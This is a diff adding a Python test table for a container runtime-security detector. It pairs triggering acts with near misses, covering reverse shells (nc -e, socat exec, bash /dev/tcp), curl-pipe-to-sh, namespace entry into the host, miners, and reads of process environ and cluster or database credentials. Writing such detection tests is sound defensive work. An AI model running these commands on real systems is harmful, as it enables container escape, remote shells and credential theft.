@@ -1,0 +1,92 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: Apache-2.0
+"""The default rules on what root's risks are: an act that raises each, and one that must not."""
+
+import os
+import sys
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "lib"))
+
+import acts  # noqa: E402
+import suite  # noqa: E402
+from acts import read, write  # noqa: E402
+
+NOTHING = ["/usr/bin/mytool"]
+GCC = "/tools/x86_64-linux-gnu-gcc-12"
+# The kernel's own files, mounted where nobody looks for them.
+TRACE = ["act_open", "--mount", "tracefs", "/trace", "openat", "r", "/trace/README"]
+
+
+def sh(line):
+    return ["sh", "-c", line + "; act_id one"]
+
+
+# The detection; where and the act that raises it; where and an act that comes near and does not.
+TABLE = [
+    ("runtime-binary-written", "strong", write("/data/runc"), "strong", write("/data/run")),
+    ("runtime-binary-written", "strong", write("/data/crun"), "c", write("/opt/crun")),
+    ("runtime-binary-run", "c", "/usr/local/bin/again.sh", "c", ["/usr/local/bin/script.sh"]),
+    ("workdir-escape", "c", [*NOTHING, "/proc/self/fd/8/../../etc"],
+     "c", [*NOTHING, "/proc/self/fd/8"]),
+    ("workdir-escape", "c", [*NOTHING, "-C", "/proc/1/cwd/.."], "c", [*NOTHING, "/proc/1/cwd"]),
+    ("host-entered", "c", ["/tools/nsenter", "-t", "1", "-m"],
+     "c", ["/tools/nsenter", "-t", "12", "-m"]),
+    ("host-entered", "c", ["/tools/nsenter", "--mount=/proc/1/ns/mnt"],
+     "c", ["/tools/nsenter", "--mount=/proc/7/ns/mnt"]),
+    ("attack-tool-run", "c", ["/tools/amicontained"], "c", [*NOTHING, "amicontained"]),
+    ("attack-tool-run", "c", ["/tools/cdk", "evaluate"], "c", ["/tools/cdk", "deploy"]),
+    ("miner-run", "c", ["/tools/xmrig"], "c", [*NOTHING, "xmrig"]),
+    ("miner-run", "c", [*NOTHING, "-o", "stratum+tcp://pool:3333"],
+     "c", [*NOTHING, "-o", "tcp://pool:3333"]),
+    ("reverse-shell", "c", ["/tools/nc", "-e", "/bin/sh", "h", "1"],
+     "c", ["/tools/nc", "-z", "db", "5432"]),
+    ("reverse-shell", "c", ["/tools/socat", "tcp:h:1", "exec:sh,pty"],
+     "c", ["/tools/socat", "-", "tcp:h:1"]),
+    ("reverse-shell", "c", sh("false && bash -i >/dev/tcp/h/1 0>&1"), "c", sh(": bash -i")),
+    ("download-run", "c", sh("false && curl h | sh"), "c", sh("false && curl h | sort")),
+    ("download-run", "c", sh("false && eval \"$(wget -qO- h)\""),
+     "c", sh("false && x=$(wget -qO- h)")),
+    ("scanner-run", "c", ["/tools/nmap", "h"], "c", [*NOTHING, "nmap"]),
+    ("scanner-run", "c", [*NOTHING, "-sS", "10.0.0.0/8"], "c", [*NOTHING, "-s", "10.0.0.0/8"]),
+    ("kernel-module", "c", ["/tools/insmod", "x"], "c", ["/tools/modprobe", "-n", "x"]),
+    ("kernel-module", "c", ["act_open", "openat", "wrc", "/tmp/x.ko"],
+     "c", ["act_open", "openat", "wrc", "/tmp/x.kt"]),
+    ("disk-tool-run", "c", ["/tools/debugfs", "x"], "c", [*NOTHING, "debugfs"]),
+    ("disk-tool-run", "c", ["/tools/mknod", "/x", "b", "8", "0"],
+     "c", ["/tools/mknod", "/x", "p"]),
+    ("process-memory-written", "strong", write("/proc/1/mem", "w"),
+     "strong", write("/proc/self/mem", "w")),
+    ("process-memory-read", "strong", read("/proc/1/mem"), "strong", read("/proc/self/mem")),
+    ("cluster-credentials-read", "strong", read("/mnt/kubernetes/admin.conf"),
+     "strong", read("/mnt/kubernetes/ca.crt")),
+    ("environ-read", "strong", read("/proc/1/environ"), "strong", read("/proc/self/environ")),
+    ("proc-root-asked", "c", [*NOTHING, "/proc/1/root/etc"], "c", [*NOTHING, "/proc/17/root"]),
+    ("database-password-read", "c", read("/root/.mylogin.cnf"), "c", read("/app/database.yml")),
+    ("database-password-read", "c", "sh -c 'read x </app/database.yml'",
+     "c", "sh -c 'read x </app/data.txt'"),
+    ("tunnel-run", "c", ["/tools/chisel", "client"], "c", [*NOTHING, "chisel"]),
+    ("tunnel-run", "c", ["/tools/ssh", "-N", "-R", "1:h:2", "u@h"], "c", ["/tools/ssh", "u@h"]),
+    ("crontab-run", "c", ["/tools/crontab", "-"], "c", ["/tools/crontab", "-l"]),
+    ("suid-bit-set", "c", ["/tools/chmod", "u+s", "/x"], "c", ["/tools/chmod", "u+x", "/x"]),
+    ("suid-bit-set", "c", ["/tools/chmod", "4755", "/x"], "c", ["/tools/chmod", "0755", "/x"]),
+    ("suid-bit-set", "c", ["/tools/setcap", "cap_setuid=ep", "/x"],
+     "c", ["/tools/setcap", "-r", "/x"]),
+    ("app-changed", "c", "sh -c 'echo >/app/new.py'", "c", write("/app/other.py")),
+    ("app-changed", "c", "sh -c 'echo >/app/new.js'", "c", "sh -c 'echo >/app/new.log'"),
+    ("compiler-run", "c", ["/tools/gcc", "x.c"], "c", [*NOTHING, "x.c"]),
+    ("compiler-run", "c", [GCC, "x.c"], "c", ["/tools/ssh", "gcc"]),
+    ("cluster-client-run", "c", ["/tools/kubectl", "get", "pods"], "c", [*NOTHING, "kubectl"]),
+    ("namespace-tool-run", "c", ["/tools/unshare", "-m"], "c", [*NOTHING, "unshare"]),
+    ("debugfs-read", "strong", TRACE, "strong", read("/sys/kernel/notes")),
+    ("download-tool-run", "c", ["/tools/curl", "https://h/x"],
+     "c", ["/tools/curl", "http://localhost/health"]),
+]
+
+
+@suite.cases(*[(f"{row[0]} {number}", *row) for number, row in enumerate(TABLE)])
+def test_rule(w, _label, *row):
+    acts.check(w, *row)
+
+
+if __name__ == "__main__":
+    suite.main(acts.with_mounts)
